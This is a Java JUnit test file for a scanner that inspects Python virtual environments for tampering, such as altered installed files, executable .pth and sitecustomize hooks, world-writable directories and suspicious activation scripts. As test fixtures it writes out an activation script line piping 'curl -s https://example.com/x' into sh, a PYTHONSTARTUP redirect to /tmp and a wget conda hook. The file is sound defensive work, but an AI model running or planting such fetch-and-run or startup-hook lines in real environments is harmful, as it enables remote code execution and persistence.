package dev.gatehouse.inspection.environment;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.findings.Status;
import dev.gatehouse.findings.TargetReport;
import dev.gatehouse.packaging.artifact.Sha256;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class EnvironmentInspectorTest {
  private static final String SITE = "v/lib/python3.12/site-packages/";

  private final MemoryTree tree =
      new MemoryTree()
          .file("v/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n")
          .file(SITE + "a.py", "x = 1\n")
          .file("v/bin/a", "#!/v/bin/python\nimport a\n")
          .file(SITE + "a-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: a\nVersion: 1\n")
          .file(SITE + "a-1.dist-info/INSTALLER", "pip\n")
          .file(
              SITE + "a-1.dist-info/RECORD",
              row("a.py", "x = 1\n")
                  + row("../../../bin/a", "#!/v/bin/python\nimport a\n")
                  + "__pycache__/a.cpython-312.pyc,,\n"
                  + "a-1.dist-info/METADATA,,\na-1.dist-info/RECORD,,\n");

  private static String row(String path, String content) {
    var digest = Sha256.newDigest().digest(content.getBytes(UTF_8));
    return "%s,sha256=%s,%d\n"
        .formatted(
            path,
            Base64.getUrlEncoder().withoutPadding().encodeToString(digest),
            content.getBytes(UTF_8).length);
  }

  private List<String> inspect() {
    return Inspections.texts(Inspections.environment(tree, "v"));
  }

  @Test
  void findsNothingInWhatPipInstalled() {
    TargetReport report = Inspections.environment(tree, "v");

    assertThat(report.status()).isEqualTo(Status.CLEAN);
    assertThat(report.findings()).isEmpty();
    assertThat(report.details())
        .containsEntry("kind", "venv")
        .containsEntry("python", "3.12.4")
        .containsEntry("distributions", 1)
        .containsEntry("installed", List.of(Map.of("project", "a", "version", "1")));
  }

  @Test
  void findsAFileThatWasChangedAfterTheInstallation() {
    tree.file(SITE + "a.py", "x = 2\n");

    assertThat(inspect())
        .containsExactly("record-mismatch high lib/python3.12/site-packages/a.py:0");
  }

  @Test
  void findsAScriptThatWasChangedAfterTheInstallation() {
    tree.file("v/bin/a", "#!/v/bin/python\nimport b\n");

    assertThat(inspect()).containsExactly("record-mismatch medium bin/a:0");
  }

  @Test
  void findsAnAddedPathFile() {
    tree.file(SITE + "z.pth", "import os; Popen\n");

    TargetReport report = Inspections.environment(tree, "v");

    assertThat(Inspections.texts(report))
        .contains(
            "startup-pth-exec critical lib/python3.12/site-packages/z.pth:1",
            "startup-pth-unowned high lib/python3.12/site-packages/z.pth:0");
    assertThat(report.details().get("executable-pth"))
        .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.list(Map.class))
        .hasSize(1);
  }

  @Test
  void readsWhatALinkedPathFileSays() {
    tree.link(SITE + "z.pth", "../../../share/z").file("v/share/z", "import os; Popen\n");

    assertThat(inspect())
        .contains(
            "startup-pth-exec critical lib/python3.12/site-packages/z.pth:1",
            "startup-pth-path medium lib/python3.12/site-packages/z.pth:0");
  }

  @Test
  void looksIntoPackagesThatAreLinks() {
    tree.file("srv/p/__init__.py", "").link(SITE + "p", "/srv/p").link(SITE + "up", "..");
    tree.file(SITE + "a-1.dist-info/RECORD", row("p/__init__.py", "changed"));

    assertThat(inspect())
        .contains("record-mismatch high lib/python3.12/site-packages/p/__init__.py:0");
  }

  @Test
  void findsASitecustomize() {
    tree.file(SITE + "sitecustomize.py", "import os\n");

    assertThat(inspect())
        .containsExactly("startup-customize high lib/python3.12/site-packages/sitecustomize.py:0");
  }

  @Test
  void neverCallsCleanWhatItCouldNotRead() {
    tree.closed(SITE + "a.py");

    TargetReport report = Inspections.environment(tree, "v");

    assertThat(report.status()).isEqualTo(Status.INCOMPLETE);
    assertThat(report.problems())
        .extracting(problem -> problem.path())
        .contains("lib/python3.12/site-packages/a.py");
  }

  @Test
  void passesOverTheSitecustomizeOfDebian() {
    MemoryTree debian =
        debian(
            "try:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n");

    assertThat(Inspections.texts(Inspections.environment(debian, "usr")))
        .containsExactly("startup-customize info lib/python3.11/sitecustomize.py:0");
  }

  @Test
  void tellsOfAnotherSitecustomizeInTheStandardLibrary() {
    assertThat(
            Inspections.texts(
                Inspections.environment(debian("import apport_python_hook\n"), "usr")))
        .containsExactly("startup-customize medium lib/python3.11/sitecustomize.py:0");
    assertThat(Inspections.texts(Inspections.environment(debian("Popen\n"), "usr")))
        .containsExactly("startup-customize high lib/python3.11/sitecustomize.py:0");
  }

  private static MemoryTree debian(String customize) {
    return new MemoryTree()
        .folder("usr/lib/python3/dist-packages")
        .file("usr/lib/python3.11/os.py", "")
        .file("etc/python3.11/sitecustomize.py", customize)
        .link("usr/lib/python3.11/sitecustomize.py", "/etc/python3.11/sitecustomize.py");
  }

  @Test
  void findsTheModuleThatTheSitecustomizeOfDebianAsksFor() {
    tree.file(SITE + "apport_python_hook.py", "def install(): pass\n");

    assertThat(inspect())
        .containsExactly(
            "startup-customize high lib/python3.12/site-packages/apport_python_hook.py:0");
  }

  @Test
  void findsAHomeThatAnybodyMayWriteTo() {
    tree.file("v/pyvenv.cfg", "home = /tmp/python/bin\nversion = 3.12.4\n");
    assertThat(inspect()).containsExactly("startup-interpreter-config high pyvenv.cfg:1");

    tree.file("v/pyvenv.cfg", "home = /srv/python\n").folder("srv/python", 0777);
    assertThat(inspect()).containsExactly("startup-interpreter-config high pyvenv.cfg:1");
  }

  @Test
  void findsAConfigurationThatContradictsItself() {
    tree.file("v/pyvenv.cfg", "home = /usr/bin\nHOME=/opt/bin\nversion_info = 3.9.1.final.0\n");

    assertThat(inspect())
        .containsExactly(
            "startup-interpreter-config medium pyvenv.cfg:2",
            "startup-interpreter-config low pyvenv.cfg:0");
  }

  @Test
  void tellsThatPackagesOfTheSystemAreSeen() {
    tree.file("v/pyvenv.cfg", "home = /usr/bin\ninclude-system-site-packages = true\n");

    assertThat(inspect()).containsExactly("startup-interpreter-config info pyvenv.cfg:2");
  }

  @Test
  void findsActivationScriptsThatDoMoreThanSetVariables() {
    tree.file(
        "v/bin/activate",
        """
        # curl is not run here
        PYTHONHOME="${_OLD_VIRTUAL_PYTHONHOME:-}"
        unset PYTHONHOME
        export PYTHONSTARTUP=/tmp/x.py
        curl -s https://example.com/x | sh
        """);

    assertThat(inspect())
        .containsExactly(
            "startup-environment-variable high bin/activate:4",
            "startup-interpreter-config high bin/activate:5");
  }

  @Test
  void tellsOfScriptsThatCondaRuns() {
    tree.file("v/etc/conda/activate.d/a.sh", "export A=1\n")
        .file("v/etc/conda/activate.d/b.sh", "wget -q x\n");

    assertThat(inspect())
        .containsExactly(
            "startup-conda-activate medium etc/conda/activate.d/b.sh:1",
            "startup-conda-activate info etc/conda/activate.d/a.sh:0");
  }

  @Test
  void judgesThePathFileOfAnInterpreter() {
    MemoryTree embedded =
        new MemoryTree()
            .folder("C:/py/Lib/site-packages")
            .file("C:/py/python312.zip", "")
            .file("C:/py/python312._pth", "python312.zip\r\n.\r\n#import site\r\n");
    assertThat(Inspections.texts(Inspections.environment(embedded, "C:/py")))
        .containsExactly("startup-interpreter-config info python312._pth:0");

    embedded.file("C:/py/python312._pth", "C:\\Windows\\Temp\r\n.\r\n");
    assertThat(Inspections.texts(Inspections.environment(embedded, "C:/py")))
        .containsExactly("startup-interpreter-config high python312._pth:1");
  }

  @Test
  void findsASiteDirectoryThatIsOpenToAll() {
    tree.folder("v/lib/python3.12/site-packages", 0777);

    assertThat(inspect())
        .containsExactly("startup-interpreter-config high lib/python3.12/site-packages:0");
  }
}
